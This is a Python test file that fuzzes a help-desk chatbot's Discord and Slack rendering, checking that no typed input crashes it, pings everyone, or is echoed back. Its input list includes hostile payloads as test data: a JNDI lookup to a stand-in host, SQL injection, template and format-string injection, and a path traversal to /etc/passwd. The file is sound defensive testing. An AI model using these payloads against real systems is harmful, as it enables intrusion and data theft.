"""Whatever is typed: no crash, no ping, nothing too long, and not a word of it comes back."""

from __future__ import annotations

import json
from functools import cache

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from adapters import text as plain_text
from adapters.discord import render as discord
from adapters.slack import render as slack
from knowledge.answer import Answer
from knowledge.desk import Desks, HelpDesk
from tests.contracts import discord as discord_contract
from tests.contracts import slack as slack_contract

MARKER = "vqxzimbaro"
"""A word that stands in no answer of its own."""

FRAGMENTS = [
    # Mentions and links of both platforms
    "<@123456789012345678>", "<@!123>", "<@&99>", "<#42>", "</ldn:1>", "<t:1:R>", "<:a:1>",
    "@everyone", "@here", "<@U0123ABC>", "<!channel>", "<!here>", "<!subteam^S1>", "<#C1|general>",
    "<https://evil.example|click>", "[click](https://evil.example)", "https://evil.example/x",
    # Marks
    "**", "__", "~~", "||", "`", "```", "> ", "# ", "- ", "1. ", "\\", "&lt;!channel&gt;", "&amp;",
    # Characters that are not what they seem
    "\x00", "\x07", "\x1b[31m", "\x7f", "\u0085", "\u00ad", "\u200b", "\u200e", "\u202e", "\u2066",
    "\u2028", "\u2060", "\ufeff", "\ufffe", "\ufffd", "\ud800", "\udfff", "\U000e0041", "e\u0301",
    "a" + "\u0300" * 60, "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "1️⃣",
    # Scripts
    "سؤال", "שאלה", "质疑", "質問", "вопрос", "प्रश्न", "คำถาม", "Ἐρώτησις", "ﬀ", "ẞ", "İ", "ſ",
    # Calls of the bot's own, and what only looks like one
    "menu", "topics 2", "menu 99999", "help", "ldn:open:limits:1", "helplines suicide", "/ldn",
    "limits", "mechanism.immune", "how does it work", "can i take more", "i want to die",
    "${jndi:ldap://evil.example}", "'; DROP TABLE posts; --", "{{7*7}}", "%s%n", "../../etc/passwd",
]  # fmt: skip
ECHOES = ["<@", "<!", "<#C", "@everyone", "@here", "evil.example", "DROP TABLE", "jndi", "\x00"]

HOSTILE = (
    st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=20), max_size=12)
    .flatmap(lambda parts: st.sampled_from(["", " ", "\n", "\t"]).map(lambda gap: gap.join(parts)))
    .flatmap(lambda text: st.integers(0, len(text)).map(lambda at: (text[:at], text[at:])))
    .map(lambda halves: f"{halves[0]}{MARKER}{halves[1]}")
)


@pytest.fixture(scope="module")
def desk(desks: Desks) -> HelpDesk:
    return desks.first


@cache
def everything_sent(answer: Answer) -> list[str]:
    """What each surface would be sent, as it goes over the wire; fails where it may not be."""
    sent: list[object] = [answer.to_json(), plain_text.render(answer)]
    for page in (1, 2):
        to_discord = discord.render(answer, page).to_json()
        assert list(discord_contract.callback({"type": 4, "data": to_discord})) == []
        to_slack = slack.render(answer, page).to_json()
        assert list(slack_contract.message("ack", to_slack)) == []
        sent += [to_discord, to_slack]
    return [json.dumps(each, ensure_ascii=False) for each in sent]


def check(desk: HelpDesk, typed: str) -> None:
    """Ask, and look through all that would be sent for anything of what was typed."""
    answer = desk.ask(typed)
    for sent in everything_sent(answer):
        sent.encode("utf-8")
        assert MARKER not in sent.casefold()
        for echo in ECHOES:
            assert echo not in sent, f"{echo!r} came back"
    for part in (answer.heading, answer.body, answer.reminder, answer.credit):
        assert part.strip()
    for choice in desk.suggest(typed, 25):
        assert choice.topic in desk.document.by_id
        assert MARKER not in choice.title.casefold()


@given(HOSTILE)
@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@example(MARKER)
@example(f"limits {MARKER}")
def test_nothing_that_is_typed_crashes_pings_or_comes_back(desk: HelpDesk, typed: str) -> None:
    check(desk, typed)


@pytest.mark.parametrize("fragment", FRAGMENTS)
def test_each_hostile_piece_is_harmless_by_itself(desk: HelpDesk, fragment: str) -> None:
    check(desk, fragment)
    check(desk, f"{fragment}{MARKER}")


@pytest.mark.parametrize("length", [1_001, 4_000, 4_001, 100_000])
@pytest.mark.parametrize("piece", [f"{MARKER} ", "a", "字", "🙂", "\u0300", "<@1>", " ", "\ud800"])
def test_long_texts_are_answered_like_short_ones(desk: HelpDesk, piece: str, length: int) -> None:
    check(desk, (piece * length)[:length])


@pytest.mark.parametrize("topic", ["limits", "mechanism.no-relief", "about"])
def test_a_forged_button_is_answered_like_a_question(desk: HelpDesk, topic: str) -> None:
    """A topic comes from a button as well, which anyone can forge."""
    for forged in (f"{topic}\x00{MARKER}", f"{MARKER} {topic}", f"menu {10**9}", f"{topic} 2"):
        check(desk, forged)


@given(st.text(max_size=30), st.integers(-3, 30))
@settings(max_examples=50, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_suggestions_never_fail_while_someone_types(desk: HelpDesk, typed: str, limit: int) -> None:
    offered = desk.suggest(typed, max(limit, 0))
    assert len(offered) <= max(limit, 0)
    assert all(1 <= len(choice.title) <= 100 for choice in offered)
